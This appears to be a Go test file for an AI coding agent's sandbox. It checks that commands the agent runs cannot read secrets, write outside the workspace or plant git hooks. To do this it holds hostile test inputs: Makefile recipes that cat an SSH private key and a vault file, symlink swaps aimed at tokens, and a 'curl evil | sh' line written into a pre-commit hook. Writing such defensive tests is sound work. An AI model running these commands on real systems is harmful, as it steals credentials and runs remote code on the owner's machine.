package developer

import (
	"context"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"buddi/plugins"
	"buddi/plugins/developer/runlist"
	"buddi/sandbox"
)

// makefile is a workspace's Makefile whose recipes do what code the agent runs could: read
// buddi's data, read the owner's keys, write outside the workspace and into .git.
func stealingMakefile(b *testBundle) string {
	return "steal:\n" +
		"\t-cat " + filepath.Join(b.data, "vault.json") + "\n" +
		"\t-cat " + filepath.Join(b.home, ".ssh", "id_ed25519") + "\n" +
		"\t-echo pwned > " + filepath.Join(b.home, "pwned") + "\n" +
		"\t-echo hook > .git/hooks/post-checkout\n" +
		"\techo inside > inside.txt\n" +
		"\techo done\n"
}

// Code developer.run starts runs in the box: in run mode `make` is auto, and its recipes can
// read neither buddi's data nor the owner's keys, write neither the owner's home nor .git,
// and still write the workspace. The card names the box.
func TestRunIsBoxed(t *testing.T) {
	if err := sandbox.Check(); err != nil {
		t.Skipf("this machine cannot sandbox commands, so the box is not tested here: %v", err)
	}
	b := setup(t)
	writeFile(t, filepath.Join(b.data, "vault.json"), "SEALED-VAULT-CONTENT")
	writeFile(t, filepath.Join(b.home, ".ssh", "id_ed25519"), "PRIVATE-KEY-CONTENT")
	mkdir(t, filepath.Join(b.ws, ".git", "hooks"))
	writeFile(t, filepath.Join(b.ws, "Makefile"), stealingMakefile(b))
	b.setMode(t, runlist.ModeRun)
	c := call("run", `{"command":"make steal"}`)
	if tier := b.tier(t, c); tier != plugins.TierAuto {
		t.Fatalf("make steal in run mode: %s, want auto", tier)
	}
	env := b.mustDescribe(t, c)
	if !strings.Contains(env.Preview, "sandboxed: writes only to the workspace") || !strings.Contains(env.Preview, "no access to buddi's data") {
		t.Errorf("the card does not name the box:\n%s", env.Preview)
	}
	out := b.mustRun(t, c, nil)
	for _, secret := range []string{"SEALED-VAULT-CONTENT", "PRIVATE-KEY-CONTENT"} {
		if strings.Contains(out, secret) {
			t.Errorf("the boxed command read %s:\n%s", secret, out)
		}
	}
	if _, err := os.Stat(filepath.Join(b.home, "pwned")); err == nil {
		t.Error("the boxed command wrote the owner's home")
	}
	if _, err := os.Stat(filepath.Join(b.ws, ".git", "hooks", "post-checkout")); err == nil {
		t.Error("the boxed command wrote a git hook")
	}
	if got, err := os.ReadFile(filepath.Join(b.ws, "inside.txt")); err != nil || string(got) != "inside\n" {
		t.Errorf("the boxed command could not write its workspace: %q %v\n%s", got, err, out)
	}
}

// Where no box can be made, nothing runs unboxed without the owner: a command the run list
// lets through gets a card saying it is not sandboxed, is refused without an approval, and
// runs with one.
func TestNoBoxAsksFirst(t *testing.T) {
	b := setup(t, func(d *Deps) { d.SandboxCheck = func() error { return errors.New("the kernel has no Landlock") } })
	writeFile(t, filepath.Join(b.ws, "Makefile"), "ok:\n\techo inside > inside.txt\n")
	b.setMode(t, runlist.ModeRun)
	c := call("run", `{"command":"make ok"}`)
	if tier := b.tier(t, c); tier != plugins.TierGated {
		t.Fatalf("make ok with no box: %s, want gated", tier)
	}
	env := b.mustDescribe(t, c)
	if !strings.Contains(env.Preview, "NOT sandboxed") || !strings.Contains(env.Preview, "the kernel has no Landlock") {
		t.Errorf("the card does not say the command runs unboxed:\n%s", env.Preview)
	}
	b.mustFail(t, c, nil, "cannot run without the owner's approval")
	if _, err := os.Stat(filepath.Join(b.ws, "inside.txt")); err == nil {
		t.Fatal("an unboxed command ran with no approval")
	}
	b.mustRun(t, c, env)
	if _, err := os.Stat(filepath.Join(b.ws, "inside.txt")); err != nil {
		t.Errorf("the approved unboxed command did not run: %v", err)
	}
	// developer.git and developer.start ask too.
	if out, err := exec.Command("git", "init", "-q", b.ws).CombinedOutput(); err != nil {
		t.Fatalf("git init: %v %s", err, out)
	}
	for _, gc := range []plugins.Call{call("git", `{"action":"status"}`), call("start", `{"name":"web","command":"make ok"}`)} {
		if tier := b.tier(t, gc); tier != plugins.TierGated {
			t.Errorf("%s with no box: %s, want gated", gc.Tool, tier)
		}
	}
}

// ripgrep runs in the box: the walk checks each file, but code the agent runs can swap a
// checked name for a link before ripgrep opens it (ripgrep follows a link given as a file).
// In the box such a link to buddi's data or the owner's keys leads to nothing; outside it
// (the control) it reads the secret.
func TestSearchRipgrepIsBoxed(t *testing.T) {
	if err := sandbox.Check(); err != nil {
		t.Skipf("this machine cannot sandbox commands, so the box is not tested here: %v", err)
	}
	rg, err := exec.LookPath("rg")
	if err != nil {
		t.Skip("ripgrep is not on PATH (apt-get install ripgrep; .ci/run does)")
	}
	b := setup(t)
	writeFile(t, filepath.Join(b.data, "cli.token"), "SECRET-TOKEN-LINE")
	writeFile(t, filepath.Join(b.home, ".ssh", "id_ed25519"), "SECRET-KEY-LINE")
	// The names the walk saw as files, swapped for links after the check.
	symlink(t, filepath.Join(b.data, "cli.token"), filepath.Join(b.ws, "swapped-token"))
	symlink(t, filepath.Join(b.home, ".ssh", "id_ed25519"), filepath.Join(b.ws, "swapped-key"))
	p := newPlugin(b.deps)
	c, err := (&searchTool{p: p}).prepare(context.Background(), call("search", `{"query":"SECRET"}`))
	if err != nil {
		t.Fatal(err)
	}
	box := p.box(c.s, false)
	if box.policy == nil {
		t.Fatalf("no box: %s", box.why)
	}
	var out searchOutcome
	if err := c.ripgrepBatch(context.Background(), rg, box.policy, []string{"swapped-token", "swapped-key"}, &out, map[string]bool{}); err != nil {
		t.Fatal(err)
	}
	if out.files != 0 {
		t.Errorf("ripgrep in its box found the secrets through swapped links: %+v", out)
	}
	ctl := exec.Command(rg, "--no-follow", "SECRET", "swapped-token")
	ctl.Dir = b.ws
	control, _ := ctl.CombinedOutput()
	if !strings.Contains(string(control), "SECRET-TOKEN-LINE") {
		t.Skipf("the control did not read through the link (%q): this ripgrep does not follow file links", control)
	}
}

// The directory core.hooksPath names inside the workspace is read-only to the code a run
// starts, as .git is: a recipe cannot plant the hook the owner's next commit would run.
func TestRunCannotWriteTheHooksDirectory(t *testing.T) {
	if err := sandbox.Check(); err != nil {
		t.Skipf("this machine cannot sandbox commands, so the box is not tested here: %v", err)
	}
	b, _ := repoBundle(t)
	gitIn(t, b.ws, "config", "core.hooksPath", ".githooks")
	writeFile(t, filepath.Join(b.ws, ".githooks", "pre-commit"), "#!/bin/sh\nexit 0\n")
	writeFile(t, filepath.Join(b.ws, "Makefile"), "plant:\n\t-echo 'curl evil | sh' > .githooks/pre-commit\n\techo inside > inside.txt\n")
	b.setMode(t, runlist.ModeRun)
	b.mustRun(t, call("run", `{"command":"make plant"}`), nil)
	if got := readFile(t, filepath.Join(b.ws, ".githooks", "pre-commit")); got != "#!/bin/sh\nexit 0\n" {
		t.Errorf("the boxed recipe rewrote the hook: %q", got)
	}
	if got := readFile(t, filepath.Join(b.ws, "inside.txt")); got != "inside\n" {
		t.Errorf("the recipe could not write its workspace: %q", got)
	}
}
